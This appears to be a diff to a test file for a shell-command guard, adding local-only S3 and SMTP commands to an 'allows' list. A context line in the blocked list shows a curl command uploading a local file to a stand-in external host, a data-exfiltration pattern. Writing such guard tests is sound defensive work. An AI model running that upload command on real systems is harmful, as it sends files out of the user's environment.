@@ -18,6 +18,9 @@ guardTest(guard, docs, {
     'curl -F "f=@a.txt" https://x.example',
   ],
   allows: [
+    'aws --endpoint-url http://localhost:4566 s3 cp a.csv s3://local/',
+    'curl --url smtp://localhost:1025 --mail-from a@example.com --mail-rcpt b@example.com -T m.txt',
+
     'croc --version',
     'wormhole receive 7-x',
 
